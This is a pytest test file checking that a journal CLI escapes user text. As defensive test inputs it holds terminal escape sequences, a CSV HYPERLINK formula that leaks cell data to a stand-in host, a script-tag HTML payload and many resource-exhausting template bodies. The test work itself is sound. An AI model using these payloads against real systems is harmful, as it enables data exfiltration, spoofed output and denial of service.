"""Issue 9, items 8-11 and part of 16: user text is escaped for the medium it reaches.

A terminal (no rich markup, no control characters), a CSV file (no formulas), Markdown (no live
HTML), an error line (cut to a sane length); and templates cannot build huge documents.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from journal.cli import cli, csv_safe
from journal.clock import today
from journal.errors import TemplateError
from journal.render import error_text, terminal_safe
from journal.templates import Template, render_template
from tests.conftest import snapshot, write

MARKUP = "Ship [/] v2 [v2] for [owner] and [link=http://evil.example]click[/link] :warning: [bold]x"
ESCAPES = "Tidy \x1b]0;pwned\x07 up \x1b[2J the \x9b31m desk \u202eevil\u202c \x7f end"
# What a terminal would act on: C0 but tab and line feed, DEL, C1, bidi overrides and isolates.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
NOTE = "\x1b]0;note\x07"
SGR = re.compile("\x1b\\[[0-9;]*m")  # rich's own styling, on a forced terminal


def invoke(*args: str, input: str | None = None) -> Result:
    """Run the CLI as on a terminal: click would otherwise strip some escape sequences itself."""
    return CliRunner().invoke(cli, list(args), input=input, catch_exceptions=False, color=True)


def journal_with(root: Path, *goals: str) -> Path:
    lines = "".join(f"- [ ] {goal}\n" for goal in goals)
    return write(root, "entries/2025-q1.md", f"# Q1 2025\n\n## Goals\n\n{lines}")


def ids(run: Callable[..., Result]) -> dict[str, str]:
    return {goal["text"]: goal["id"] for goal in json.loads(run("goals", "--all", "--json").stdout)}


def assert_harmless(text: str) -> None:
    assert not RAW_CONTROL.search(SGR.sub("", text)), repr(text)


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    """Standard output is a terminal: rich draws the tables, and is forced to style them."""
    monkeypatch.setattr("journal.render.on_terminal", lambda: True)
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("COLUMNS", "400")  # one table row per goal


# ---------------------------------------------------------------- item 8: rich markup


@pytest.mark.parametrize("command", [("goals",), ("stats",), ("extract", "{doc}")])
def test_goal_text_is_never_read_as_rich_markup_on_a_terminal(journal_dir: Path, run, terminal, command) -> None:
    document = journal_with(journal_dir, MARKUP)
    run("sync")
    result = run(*(part.format(doc=document) for part in command))
    shown = SGR.sub("", result.stdout)
    assert MARKUP in shown  # every bracket kept, nothing turned into a style, a link or an emoji
    assert "\x1b]8;" not in result.stdout  # no live hyperlink


def test_goal_text_is_never_read_as_rich_markup_when_piped(journal_dir: Path, run) -> None:
    journal_with(journal_dir, MARKUP)
    assert MARKUP in run("goals").stdout


# ---------------------------------------------------------------- item 9: control characters


def test_terminal_safe_shows_control_characters_as_escapes() -> None:
    assert terminal_safe(ESCAPES) == r"Tidy \x1b]0;pwned\x07 up \x1b[2J the \x9b31m desk \u202eevil\u202c \x7f end"
    assert terminal_safe("tab\tstays; ünïcode stays") == "tab\tstays; ünïcode stays"
    assert terminal_safe("two\nlines") == r"two\x0alines"
    assert terminal_safe("two\nlines", newlines=True) == "two\nlines"


@pytest.mark.parametrize("on_a_terminal", [False, True])
def test_control_characters_in_goal_text_never_reach_the_terminal(
    journal_dir: Path, run, monkeypatch: pytest.MonkeyPatch, on_a_terminal: bool
) -> None:
    journal_with(journal_dir, ESCAPES)
    synced = invoke("sync")
    goal = ids(run)[ESCAPES]
    if on_a_terminal:
        monkeypatch.setattr("journal.render.on_terminal", lambda: True)
    outputs = [
        synced,
        invoke("goals"),
        invoke("goals", "--all"),
        invoke("show", goal),
        invoke("list"),
        invoke("stats"),
        invoke("review", "2025-q1", input=f"n\n{NOTE}\nk\n"),
        invoke("show", goal),  # with the note
        invoke("start", goal),
        invoke("done", goal),
        invoke("done", goal),  # "already done", on stderr
    ]
    for result in outputs:
        assert result.exit_code == 0, result.output
        assert_harmless(result.stdout.replace(f"Note: {NOTE}\n", "", 1))  # CliRunner echoes what was typed
        assert_harmless(result.stderr)
    assert r"\x1b]0;pwned\x07" in outputs[1].stdout
    assert f"note: {today()}: " + r"\x1b]0;note\x07" in outputs[-4].stdout  # a review's note is dated
    document = invoke("show", "2025-q1")
    if on_a_terminal:  # rendered Markdown
        assert_harmless(document.stdout)
        assert r"\x1b]0;pwned\x07" in document.stdout
    else:  # the document as it is, for a file or another program
        assert document.stdout == (journal_dir / "entries/2025-q1.md").read_text(encoding="utf-8")


def test_a_document_name_with_control_characters_is_shown_harmlessly(journal_dir: Path) -> None:
    write(journal_dir, "entries/2025-q1-\x1b[2J\x1b]0;x\x07.md", "# Q1 2025\n\n- [ ] A goal\n")
    for result in (invoke("sync"), invoke("list"), invoke("goals")):
        assert result.exit_code == 0, result.output
        assert_harmless(result.output)


def test_an_error_quoting_user_text_is_one_harmless_line(journal_dir: Path, run) -> None:
    journal_with(journal_dir, "A goal")
    run("sync")
    before = snapshot(journal_dir)
    for args in (("done", "ab\x1b]0;pwned\x07\x1b[2J\u202e"), ("goals", "--period", "q1\x1b[2J\n2025\x9b")):
        result = invoke(*args)
        assert result.exit_code in (2, 3)
        assert result.stdout == ""
        assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1
        assert_harmless(result.stderr)
        assert r"\x1b" in result.stderr
    assert snapshot(journal_dir) == before


# ---------------------------------------------------------------- item 16: long user text in errors


@pytest.mark.parametrize(
    "args",
    [
        ("done", "a" * 100_000),
        ("done", "a " * 50_000 + "b"),
        ("new", "2025-q1", "--template", "t" * 100_000),
        ("export", "--format", "x" * 100_000),
        ("goals", "--period", "q1 " * 30_000),
        ("config", "get", "k" * 100_000),
    ],
)
def test_long_user_text_in_an_error_is_cut(journal_dir: Path, run, args: tuple[str, ...]) -> None:
    journal_with(journal_dir, "A goal")
    run("sync")
    result = run(*args, expect=None)
    assert result.exit_code in (2, 3, 6)
    assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1
    assert len(result.stderr) < 400
    assert "…" in result.stderr or "..." in result.stderr


def test_error_text_cuts_quoted_user_text_and_keeps_ours() -> None:
    assert error_text("no goal matches 'abc' (type more)") == "no goal matches 'abc' (type more)"
    cut = error_text(f"no goal matches '{'x' * 500}' ('journal goals --all' lists the ids)")
    assert cut == f"no goal matches '{'x' * 60}…' ('journal goals --all' lists the ids)"
    path = "/home/dana/" + "deep/" * 10 + "entries/2025-q1.md"
    assert error_text(f"{path}:3: broken front matter") == f"{path}:3: broken front matter"
    assert len(error_text("word " * 10_000)) == 1000


# ---------------------------------------------------------------- item 10: CSV and Markdown export

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"c")', "+1+1", "-2+3", "@SUM(A1:A2)"]


@pytest.mark.parametrize("to_file", [False, True])
def test_csv_export_neutralises_formulas(journal_dir: Path, run, tmp_path: Path, to_file: bool) -> None:
    journal_with(journal_dir, *FORMULAS, "Plain = fine")
    if to_file:
        run("export", "--format", "csv", "-o", str(tmp_path / "goals.csv"))
        text = (tmp_path / "goals.csv").read_text(encoding="utf-8")
    else:
        text = run("export", "--format", "csv").stdout
    texts = [row["text"] for row in csv.DictReader(io.StringIO(text))]
    assert texts == [f"'{formula}" for formula in FORMULAS] + ["Plain = fine"]


def test_csv_safe() -> None:
    for dangerous in ("=1", "+1", "-1", "@x", "\t=1", "\r=1"):
        assert csv_safe(dangerous) == "'" + dangerous
    for fine in ("Ship it", "", "'=already", 3, None, "2025-q1"):
        assert csv_safe(fine) == fine


def test_markdown_export_escapes_html(journal_dir: Path, run) -> None:
    journal_with(journal_dir, "Ship <script>alert(1)</script> & <b>more</b>")
    text = run("export", "--format", "markdown").stdout
    assert "- [ ] Ship &lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;more&lt;/b&gt; `" in text
    assert "<script>" not in text and "<b>" not in text


def test_json_export_still_holds_the_text_as_it_is(journal_dir: Path, run) -> None:
    journal_with(journal_dir, FORMULAS[0], "Ship <b>it</b>")
    texts = [goal["text"] for goal in json.loads(run("export").stdout)]
    assert texts == [FORMULAS[0], "Ship <b>it</b>"]


def test_piped_exports_keep_escape_sequences(journal_dir: Path, run) -> None:
    """Data written to a pipe or file is the data: click must not strip `\\x1b[...m` from it."""
    journal_with(journal_dir, "Colour \x1b[31mred\x1b[0m")
    assert "Colour \x1b[31mred\x1b[0m" in json.loads(run("export").stdout)[0]["text"]
    assert "Colour \x1b[31mred\x1b[0m" in run("export", "--format", "csv").stdout


# ---------------------------------------------------------------- item 11: templates bounded

HUGE = [
    "{{ 'a'.ljust(10**8) }}",
    "{{ 'a'.rjust(100000000) }}",
    "{{ 'a'.zfill(10**8) }}",
    "{{ 'a'|center(10**8) }}",
    "{{ 'a'|center(100000000) }}",
    "{{ '{:>100000000}'.format('a') }}",
    "{{ '{:>{w}}'.format('a', w=10**8) }}",
    "{{ '{0:>{1}}'.format('a', 100000000) }}",
    "{{ '{x:>100000000}'.format_map({'x': 1}) }}",
    "{{ '%100000000s' % 'a' }}",
    "{{ '%.100000000f' % 1.5 }}",
    "{{ '%*s' % (100000000, 'a') }}",
    "{{ '%100000000s'|format('a') }}",
    "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
    "{% for i in range(10000) %}{% for j in range(10000) %}x{% endfor %}{% endfor %}",
    "{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}",
    "{{ [[1]*100000]*100000 }}",
    "{% set a = 'x' * 100000 %}{{ a ~ a ~ a ~ a ~ a ~ a ~ a ~ a ~ a ~ a ~ a }}",
    "{{ ('\t' * 100000).expandtabs(10000) }}",
    "{{ ('{0}' * 30000).format('a' * 1000) }}",
    "{{ ('a' * 100000).replace('a', 'a' * 100000) }}",
    "{{ ('a' * 100000)|replace('', 'b' * 1000) }}",
    "{{ ','.join(['a' * 100000] * 100000) }}",
    "{{ (['a' * 100000] * 100000)|join }}",
    "{{ ('a' * 100000).translate({97: 'b' * 1000}) }}",
    "{{ ('\n' * 100000)|indent(10000) }}",
    "{{ [1]|batch(100000000, 0)|list }}",
    "{{ [1, [2]]|tojson(indent=100000000) }}",
    "{{ lipsum(100000, max=100000) }}",
    "{% set ns = namespace(s='a') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
    "{% set ns = namespace(s='a') %}{% for i in range(60) %}{% set ns.s = ns.s + ns.s %}{% endfor %}",
    "{% set ns = namespace(x=10**100) %}{% for i in range(40) %}{% set ns.x = ns.x * ns.x %}{% endfor %}",
    "{% set x = [1] %}{% for i in range(60) %}{{ x.extend(x) or '' }}{% endfor %}",
    "{% set x = [] %}{% for i in range(10000) %}{{ x.append('a' * 100000) or '' }}{% endfor %}",
    "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(40) }}",
    "{% set a %}0123456789{% endset %}" + "{% set a %}{{ a }}{{ a }}{% endset %}" * 40,
    "{% for i in range(10000) %}{{ 'x' * 1000 }}{% endfor %}",
]


def template(body: str) -> Template:
    return Template(name="t", path=Path("/nowhere/t.md"), builtin=False, description="", kind=None, body=body)


@pytest.mark.parametrize("body", HUGE)
def test_a_template_cannot_build_a_huge_document(body: str) -> None:
    with pytest.raises(TemplateError, match=r"^template 't'( line \d+)?: .*(too large|more than)"):
        render_template(template(body), {})


@pytest.mark.parametrize("body", [HUGE[0], HUGE[5], HUGE[11], HUGE[14], HUGE[16], HUGE[-1]])
def test_journal_new_refuses_a_huge_template_in_one_line(journal_dir: Path, run, body: str) -> None:
    write(journal_dir, "templates/evil.md", f"# {{{{ period.label }}}}\n\n{body}\n")
    before = snapshot(journal_dir)
    result = run("new", "2025-q1", "--template", "evil", expect=6)
    assert result.stdout == ""
    assert re.match(r"Error: template 'evil'( line 3)?: ", result.stderr) and result.stderr.count("\n") == 1
    assert snapshot(journal_dir) == before


def test_ordinary_templates_still_render() -> None:
    body = (
        "{{ 'x'.ljust(5) }}|{{ 'a'|center(9) }}|{% for i in range(3) %}{{ i }}{% endfor %} {{ [1, 2]|join(',') }} "
        "{{ '{:>4}'.format(1) }} {{ '%5s|%-3d' % ('a', 2) }} {{ 'a' ~ 'b' }} {{ [1, 2, 3]|sum }} {{ 'ab' * 3 }}"
        "{% set s %}{{ '-' * 10 }}{% endset %} {{ s }} {{ ('a b'|replace(' ', '_')) }} {{ '%s' % 'ok' }}"
    )
    assert render_template(template(body), {}) == "x    |    a    |012 1,2    1     a|2   ab 6 ababab ---------- a_b ok"


@pytest.mark.parametrize("name", ["quarterly", "monthly", "weekly", "yearly", "report"])
def test_builtin_templates_still_render(journal_dir: Path, run, name: str) -> None:
    journal_with(journal_dir, *(f"Goal {n}" for n in range(50)))
    # Another template than the quarter's own is recorded in front matter (issue 11).
    start = "#" if name == "quarterly" else f"---\ntemplate: {name}\n---\n#"
    assert run("new", "2025-q2", "--template", name, "--dry-run").stdout.startswith(start)
